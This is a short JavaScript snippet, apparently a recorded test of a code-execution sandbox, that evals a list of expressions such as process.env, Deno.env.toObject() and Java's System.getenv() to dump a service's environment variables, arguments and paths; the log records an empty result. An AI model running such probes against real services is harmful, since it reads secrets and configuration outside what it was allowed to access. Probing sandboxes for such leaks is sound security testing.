// Attack: read the environment, arguments and folders of the service.
// Verdict: completed; no such thing is visible.
const probes = ['process.env', 'process.argv', 'Deno.env.toObject()', 'Bun.env', 'java.lang.System.getenv()', 'Java.type("java.lang.System").getenv()', 'os.getenv("PATH")', 'environment', 'scriptArgs', 'arguments', '__dirname', 'import.meta.env']
const found = []
for (const probe of probes) {
  try { found.push(JSON.stringify(eval('(' + probe + ')'))) } catch {}
}
return found.filter(x => x !== undefined && x !== '{}')
/* ---
status: completed
result: []
*/
